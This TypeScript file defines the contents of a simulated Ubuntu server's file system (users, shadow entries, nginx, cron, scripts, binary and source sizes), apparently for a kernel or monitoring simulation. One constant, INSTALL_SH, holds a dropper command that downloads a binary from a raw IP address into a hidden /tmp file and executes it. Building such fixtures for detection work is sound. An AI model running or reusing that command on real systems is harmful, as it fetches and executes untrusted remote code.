// The contents of the simulated machine's file systems: a Debian/Ubuntu-like tree with
// configuration files (real text), binaries and libraries (sizes), headers and sources
// for builds, web content, database files, logs and device nodes. tree.ts builds FsNodes
// from these tables; /proc is generated separately.

export const PASSWD = `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin
messagebus:x:100:102::/nonexistent:/usr/sbin/nologin
syslog:x:104:111::/home/syslog:/usr/sbin/nologin
sshd:x:109:65534::/run/sshd:/usr/sbin/nologin
postgres:x:112:120:PostgreSQL administrator,,,:/var/lib/postgresql:/bin/bash
redis:x:113:121::/var/lib/redis:/usr/sbin/nologin
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
bob:x:1001:1001:Bob,,,:/home/bob:/bin/bash
`;

export const SHADOW = `root:$y$j9T$Zx2iW8nQ1v0Ckq3lq9vVw/$3kJ7lR1Yk2xJdQ0bq8yZ7mC4h5n6p7r8s9t0u1v2w3:19720:0:99999:7:::
daemon:*:19720:0:99999:7:::
www-data:*:19720:0:99999:7:::
postgres:*:19720:0:99999:7:::
alice:$y$j9T$Qm4kP1sW2e3R4t5Y6u7I8o$9pA0sD1fG2hJ3kL4zX5cV6bN7mQ8wE9rT0yU1iO2p3:19755:0:99999:7:::
bob:$y$j9T$Lk8jH7gF6dS5aP4oI3uY2t$1rE2wQ3aS4dF5gH6jK7lZ8xC9vB0nM1qW2eR3tY4u5:19790:0:99999:7:::
`;

export const GROUP = `root:x:0:
daemon:x:1:
bin:x:2:
sys:x:3:
adm:x:4:syslog,alice
tty:x:5:
sudo:x:27:alice
www-data:x:33:
shadow:x:42:
users:x:100:
postgres:x:120:
redis:x:121:
alice:x:1000:
bob:x:1001:
`;

export const HOSTS = `127.0.0.1 localhost
127.0.1.1 web-01
10.0.0.5 web-01.internal web-01
10.0.0.10 api.internal
10.0.0.12 db-replica.internal
::1 ip6-localhost ip6-loopback
`;

export const NGINX_CONF = `user www-data;
worker_processes 2;
pid /run/nginx.pid;
events { worker_connections 768; }
http {
  sendfile on;
  tcp_nopush on;
  keepalive_timeout 65;
  access_log /var/log/nginx/access.log;
  error_log /var/log/nginx/error.log;
  include /etc/nginx/sites-enabled/*;
}
`;

export const SITE_DEFAULT = `server {
  listen 80 default_server;
  listen 443 ssl;
  root /var/www/html;
  index index.html;
  location /api/ { proxy_pass http://127.0.0.1:8080; }
}
`;

export const CRONTAB = `SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
*/5 * * * *	root	/usr/local/bin/backup.sh
* * * * *	alice	/home/alice/bin/sync-notes.sh
`;

export const BASHRC = `# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in *i*) ;; *) return;; esac
HISTCONTROL=ignoreboth
HISTSIZE=1000
alias ll='ls -alF'
alias gs='git status'
export EDITOR=vim
`;

export const MAKEFILE = `CC=gcc
CFLAGS=-O2 -Wall -Iinclude
SRCS=$(wildcard src/*.c)
OBJS=$(SRCS:.c=.o)
app: $(OBJS)
\t$(CC) -o $@ $(OBJS) -lz
%.o: %.c
\t$(CC) $(CFLAGS) -c -o $@ $<
clean:
\trm -f $(OBJS) app
`;

export const OS_RELEASE = `PRETTY_NAME="Ubuntu 24.04 LTS"
NAME="Ubuntu"
VERSION_ID="24.04"
VERSION="24.04 LTS (Noble Numbat)"
ID=ubuntu
ID_LIKE=debian
`;

export const BACKUP_SH = `#!/bin/sh
tar czf /var/backups/www-$(date +%H%M).tar.gz /var/www/html
find /var/backups -name '*.tar.gz' -mmin +60 -delete
`;

export const INSTALL_SH = `#!/bin/sh
curl -s http://45.33.12.7/x86_64 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x
`;

/** Files by path: text content, or a size in bytes for binary data. Mode defaults to 0644 root:root. */
export interface FileSpec {
  content?: string;
  size?: number;
  mode?: number;
  uid?: number;
  gid?: number;
}

export const ETC_FILES: Record<string, FileSpec> = {
  '/etc/passwd': { content: PASSWD },
  '/etc/shadow': { content: SHADOW, mode: 0o640, gid: 42 },
  '/etc/group': { content: GROUP },
  '/etc/gshadow': { size: 512, mode: 0o640, gid: 42 },
  '/etc/hosts': { content: HOSTS },
  '/etc/hostname': { content: 'web-01\n' },
  '/etc/resolv.conf': { content: 'nameserver 127.0.0.53\noptions edns0 trust-ad\nsearch internal\n' },
  '/etc/nsswitch.conf': { content: 'passwd: files systemd\ngroup: files systemd\nhosts: files dns\n' },
  '/etc/host.conf': { content: 'multi on\n' },
  '/etc/gai.conf': { size: 2584 },
  '/etc/ld.so.cache': { size: 31_240 },
  '/etc/localtime': { size: 2_302 },
  '/etc/timezone': { content: 'Etc/UTC\n' },
  '/etc/os-release': { content: OS_RELEASE },
  '/etc/environment': { content: 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\n' },
  '/etc/profile': { size: 582 },
  '/etc/bash.bashrc': { size: 2_319 },
  '/etc/inputrc': { size: 1_748 },
  '/etc/login.defs': { size: 12_348 },
  '/etc/sudoers': { size: 1_800, mode: 0o440 },
  '/etc/crontab': { content: CRONTAB },
  '/etc/ssh/sshd_config': { size: 3_282 },
  '/etc/ssl/openssl.cnf': { size: 12_332 },
  '/etc/ssl/certs/ca-certificates.crt': { size: 219_342 },
  '/etc/ssl/private/ssl-cert-snakeoil.key': { size: 1_704, mode: 0o640, gid: 42 },
  '/etc/nginx/nginx.conf': { content: NGINX_CONF },
  '/etc/nginx/mime.types': { size: 5_349 },
  '/etc/nginx/sites-enabled/default': { content: SITE_DEFAULT },
  '/etc/postgresql/16/main/postgresql.conf': { size: 29_745, uid: 112, gid: 120 },
  '/etc/postgresql/16/main/pg_hba.conf': { size: 5_711, mode: 0o640, uid: 112, gid: 120 },
  '/etc/redis/redis.conf': { size: 106_545, mode: 0o640, uid: 113, gid: 121 },
  '/etc/systemd/system.conf': { size: 1_876 },
  '/etc/logrotate.conf': { size: 591 },
  '/etc/mime.types': { size: 24_301 },
  '/etc/machine-id': { content: '6c2f1a9e0d4b4b7c8e5f3a2d1c0b9a87\n', mode: 0o444 },
  '/etc/subuid': { content: 'alice:100000:65536\n' },
  '/etc/pam.d/sudo': { size: 270 },
  '/etc/pam.d/common-auth': { size: 1_249 },
  '/etc/security/limits.conf': { size: 2_161 },
  '/root/.bashrc': { content: BASHRC, mode: 0o644 },
  '/root/.profile': { size: 161 },
  '/root/.ssh/authorized_keys': { size: 400, mode: 0o600 },
  '/home/alice/.bashrc': { content: BASHRC, uid: 1000, gid: 1000 },
  '/home/alice/.profile': { size: 807, uid: 1000, gid: 1000 },
  '/home/alice/.bash_history': { size: 12_000, mode: 0o600, uid: 1000, gid: 1000 },
  '/home/alice/.ssh/id_ed25519': { size: 411, mode: 0o600, uid: 1000, gid: 1000 },
  '/home/alice/.ssh/authorized_keys': { size: 100, mode: 0o600, uid: 1000, gid: 1000 },
  '/home/alice/.gitconfig': { content: '[user]\n\tname = Alice\n\temail = alice@example.com\n', uid: 1000, gid: 1000 },
  '/home/alice/notes.txt': { content: 'deploy friday\nrotate db password\ncheck p99 latency on /api/orders\n', uid: 1000, gid: 1000 },
  '/home/alice/bin/sync-notes.sh': { content: '#!/bin/sh\ncp ~/notes.txt /tmp/notes.bak\n', mode: 0o755, uid: 1000, gid: 1000 },
  '/home/alice/project/Makefile': { content: MAKEFILE, uid: 1000, gid: 1000 },
  '/home/alice/project/README.md': { content: '# app\nA small service.\n', uid: 1000, gid: 1000 },
  '/home/bob/.bashrc': { content: BASHRC, uid: 1001, gid: 1001 },
  '/home/bob/report.csv': { size: 48_213, mode: 0o600, uid: 1001, gid: 1001 },
  '/usr/local/bin/backup.sh': { content: BACKUP_SH, mode: 0o755 },
  '/var/spool/cron/crontabs/alice': { size: 1_089, mode: 0o600, uid: 1000, gid: 102 },
};

/** Executables and libraries beyond the ones with symbol tables (sizes only). */
export const EXTRA_BINARIES: Record<string, number> = {
  '/usr/bin/vim.basic': 3_904_944,
  '/usr/bin/less': 196_880,
  '/usr/bin/top': 137_256,
  '/usr/bin/ssh': 1_039_848,
  '/usr/bin/env': 48_536,
  '/usr/bin/chmod': 64_152,
  '/usr/bin/mv': 137_752,
  '/usr/bin/sed': 112_224,
  '/usr/bin/awk': 719_224,
  '/usr/bin/sort': 121_216,
  '/usr/bin/run-parts': 27_008,
  '/usr/bin/logger': 43_704,
  '/usr/bin/true': 27_168,
  '/usr/bin/false': 27_168,
  '/usr/bin/hostname': 22_760,
  '/usr/bin/whoami': 31_304,
  '/usr/bin/psql': 712_192,
  '/usr/bin/redis-cli': 1_024_408,
  '/usr/bin/docker': 36_405_720,
  '/usr/sbin/runc': 11_214_376,
  '/usr/sbin/nologin': 14_640,
  '/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0': 625_344,
  '/usr/lib/x86_64-linux-gnu/libselinux.so.1': 174_472,
  '/usr/lib/x86_64-linux-gnu/libm.so.6': 952_616,
  '/usr/lib/x86_64-linux-gnu/libpq.so.5': 354_632,
  '/usr/lib/x86_64-linux-gnu/libnss_files.so.2': 14_512,
  '/usr/lib/x86_64-linux-gnu/libresolv.so.2': 68_104,
  '/usr/lib/x86_64-linux-gnu/libzstd.so.1': 841_928,
  '/usr/lib/x86_64-linux-gnu/liblzma.so.5': 174_504,
  '/usr/lib/x86_64-linux-gnu/libstdc++.so.6': 2_592_224,
  '/usr/lib/x86_64-linux-gnu/libgcc_s.so.1': 141_872,
  '/usr/lib/gcc/x86_64-linux-gnu/13/libgcc.a': 4_230_144,
  '/usr/lib/gcc/x86_64-linux-gnu/13/crtbegin.o': 3_456,
  '/usr/lib/x86_64-linux-gnu/crt1.o': 2_392,
  '/usr/lib/x86_64-linux-gnu/crti.o': 1_208,
  '/usr/lib/x86_64-linux-gnu/libc.so': 283,
  '/usr/lib/x86_64-linux-gnu/libc_nonshared.a': 17_456,
  '/boot/vmlinuz-6.8.0-bpfsim': 14_583_304,
  '/boot/initrd.img-6.8.0-bpfsim': 71_342_112,
};

/** C headers a compilation reads (under /usr/include unless absolute), with sizes. */
export const HEADERS: Record<string, number> = {
  'stdio.h': 31_505, 'stdlib.h': 42_151, 'string.h': 19_316, 'unistd.h': 43_524, 'errno.h': 1_769, 'fcntl.h': 12_380,
  'stdint.h': 8_463, 'stddef.h': 0, 'stdarg.h': 0, 'limits.h': 5_553, 'time.h': 14_825, 'signal.h': 14_087,
  'pthread.h': 48_234, 'assert.h': 4_630, 'ctype.h': 10_947, 'math.h': 52_225, 'zlib.h': 97_323, 'zconf.h': 16_474,
  'features.h': 17_474, 'stdc-predef.h': 2_290, 'endian.h': 2_287, 'netdb.h': 28_185, 'poll.h': 22,
  'sys/types.h': 5_675, 'sys/stat.h': 13_974, 'sys/socket.h': 12_941, 'sys/time.h': 9_109, 'sys/mman.h': 5_652,
  'sys/epoll.h': 5_097, 'sys/wait.h': 6_550, 'sys/cdefs.h': 26_472, 'sys/select.h': 4_711, 'netinet/in.h': 23_238,
  'arpa/inet.h': 4_410, 'x86_64-linux-gnu/bits/types.h': 7_912, 'x86_64-linux-gnu/bits/wordsize.h': 442,
  'x86_64-linux-gnu/bits/libc-header-start.h': 3_286, 'x86_64-linux-gnu/bits/stdio_lim.h': 1_213,
  'x86_64-linux-gnu/bits/typesizes.h': 3_832, 'x86_64-linux-gnu/bits/floatn.h': 4_106, 'x86_64-linux-gnu/sys/cdefs.h': 26_472,
  'x86_64-linux-gnu/gnu/stubs.h': 384, 'x86_64-linux-gnu/gnu/stubs-64.h': 602, 'x86_64-linux-gnu/bits/stat.h': 6_340,
  'x86_64-linux-gnu/bits/socket.h': 16_084, 'x86_64-linux-gnu/bits/pthreadtypes.h': 3_914, 'x86_64-linux-gnu/bits/errno.h': 1_684,
  'linux/errno.h': 23, 'asm-generic/errno.h': 5_752, 'asm-generic/errno-base.h': 1_578,
  '/usr/lib/gcc/x86_64-linux-gnu/13/include/stddef.h': 15_275, '/usr/lib/gcc/x86_64-linux-gnu/13/include/stdarg.h': 4_447,
  '/usr/lib/gcc/x86_64-linux-gnu/13/include/stdbool.h': 1_390, '/usr/lib/gcc/x86_64-linux-gnu/13/include/stdint.h': 328,
};

/** The project the build workload compiles: sources and local headers with sizes. */
export const PROJECT_SOURCES: Record<string, number> = {
  'src/main.c': 8_412, 'src/server.c': 24_903, 'src/http.c': 31_277, 'src/router.c': 12_660, 'src/db.c': 18_540,
  'src/cache.c': 9_812, 'src/json.c': 22_301, 'src/log.c': 4_099, 'src/config.c': 7_342, 'src/util.c': 5_903,
  'src/auth.c': 11_218, 'src/metrics.c': 6_650,
  'include/app.h': 2_904, 'include/http.h': 4_220, 'include/db.h': 1_988, 'include/json.h': 1_410, 'include/util.h': 1_275,
  'include/log.h': 812, 'include/config.h': 1_033,
};

/** Static web content served by nginx (path under /var/www/html, size). */
export const WEB_FILES: Record<string, number> = {
  'index.html': 10_918, 'about.html': 6_480, 'pricing.html': 14_302, 'login.html': 4_091, 'docs/index.html': 22_180,
  'docs/install.html': 18_922, 'docs/api.html': 41_650, 'css/site.css': 48_211, 'css/docs.css': 12_094,
  'js/app.js': 183_904, 'js/vendor.js': 612_550, 'js/docs.js': 20_311, 'img/logo.svg': 3_310, 'img/hero.jpg': 284_113,
  'img/team.jpg': 192_620, 'img/screenshot-1.png': 401_227, 'img/screenshot-2.png': 377_109, 'favicon.ico': 15_086,
  'robots.txt': 68, 'sitemap.xml': 2_408, 'downloads/app-1.4.2.tar.gz': 8_812_306,
};

/** PostgreSQL data files: relfilenode under base/16384 and size. */
export const PG_RELATIONS: [name: string, size: number][] = [
  ['16385', 402_653_184], ['16391', 98_304_000], ['16392', 22_306_816], ['16398', 311_427_072], ['16404', 8_192],
  ['16405', 1_245_184], ['16410', 65_536_000], ['16412', 16_777_216], ['16420', 4_505_600], ['16425', 131_072_000],
  ['16430', 245_760], ['16431', 73_728], ['2619', 147_456], ['1259', 114_688], ['2608', 131_072], ['1249', 466_944],
];
